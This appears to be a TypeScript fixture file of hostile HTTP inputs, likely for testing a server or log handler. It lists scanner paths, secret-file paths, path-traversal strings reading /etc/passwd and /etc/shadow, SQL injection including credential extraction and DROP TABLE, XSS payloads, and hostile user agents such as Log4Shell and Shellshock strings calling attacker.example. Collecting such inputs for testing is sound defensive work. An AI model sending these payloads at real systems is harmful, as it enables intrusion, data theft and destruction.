/** The first bytes of an encrypted connection, sent to a port that speaks plain HTTP. */
export const TLS_GREETING = '\u0016\u0003\u0001\u0002\u0001'

/** Paths that scanners ask every server for. */
export const SCAN_PATHS: readonly string[] = (
  'admin administrator login wp-login.php wp-admin/ xmlrpc.php phpmyadmin/ pma/ manager/html console cgi-bin/test.cgi ' +
  'cgi-bin/status backup/ backups/ old/ test/ test.php info.php phpinfo.php server-status server-info shell.php ' +
  'upload.php uploads/ api/v1/users api/swagger.json swagger-ui.html actuator/health actuator/env solr/admin jenkins/ ' +
  'owa/ autodiscover/autodiscover.xml boaform/admin/formLogin HNAP1/ vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php ' +
  'index.php?id=1 joomla/ drupal/ typo3/ magento/ status stats metrics debug trace axd jmx-console/ web-console/ invoker/'
)
  .split(' ')
  .map((path) => `/${path}`)

/** Files that hold secrets when somebody leaves them in the document root. */
export const SECRET_PATHS: readonly string[] = (
  '.env .env.backup .env.production .git/config .git/HEAD .svn/entries .htpasswd .aws/credentials .ssh/id_rsa .DS_Store ' +
  'config.yml config.php.bak wp-config.php.old docker-compose.yml db.sqlite3 dump.sql backup.zip id_rsa secrets.json flag'
)
  .split(' ')
  .map((path) => `/${path}`)

/** Ways out of the document root. */
export const TRAVERSALS = [
  '/static/../../../../etc/passwd',
  '/static/..%2f..%2f..%2fetc%2fpasswd',
  '/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
  '/static/..%252f..%252f..%252fetc%252fpasswd',
  '/static/..%c0%af..%c0%afetc/passwd',
  '/download?file=../../../../proc/self/environ',
  '/download?file=....//....//....//etc/passwd',
  '/download?file=..\\..\\..\\windows\\win.ini',
  '/download?file=/etc/passwd%00.pdf',
  '/api/get-document/../../../app/flag',
] as const

/** SQL in a parameter. */
export const STATEMENTS = [
  "/news?id=1'",
  '/news?id=1%27%20OR%20%271%27=%271',
  "/news?id=1'+OR+1=1--+-",
  '/news?id=1%20AND%201=2',
  '/news?id=1%20ORDER%20BY%2010--',
  '/news?id=-1%20UNION%20SELECT%20NULL,NULL,NULL--',
  '/news?id=-1+UNION+ALL+SELECT+login,hpassword,3+FROM+Users--',
  '/news?id=1;DROP%20TABLE%20Documents--',
  '/news?id=1%20AND%20SLEEP(5)',
  '/news?id=1%20AND%20(SELECT%201%20FROM%20(SELECT%20SLEEP(5))x)',
  '/news?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))',
  '/news?id=1%20UNION%20SELECT%20table_name,2,3%20FROM%20information_schema.tables',
  '/news?id=1/**/UNION/**/SELECT/**/1,2,3',
  "/news?id=1'%20WAITFOR%20DELAY%20'0:0:5'--",
] as const

/** Scripts in a parameter. */
export const SCRIPTS = [
  '/search?q=<script>alert(1)</script>',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/search?q="><img src=x onerror=alert(1)>',
  '/search?q=%22%3E%3Csvg/onload=alert(1)%3E',
  '/search?q=javascript:alert(1)',
  '/search?q=%3Ciframe%20src=//attacker.example/x%3E',
] as const

/** User agents that attack whoever reads the log, or the server that writes it. */
export const HOSTILE_AGENTS = [
  '${jndi:ldap://attacker.example/a}',
  '() { :; }; /bin/ping -c 1 attacker.example',
  '<script>fetch("https://attacker.example/")</script>',
  "=cmd|' /C calc'!A0",
  '\u001b[2J\u001b[1;31mnothing to see here\u001b[0m',
  'x" 200 0 "-" "ExampleBot/2.1',
  '203.0.113.5 - - [22/Oct/2025:19:00:00 +0000] \\"GET / HTTP/1.1\\" 200 1',
  '\u202etob\u2066',
  '@SUM(1+9)*cmd',
  '[click](javascript:alert(1)) | `id` | $(id)',
] as const
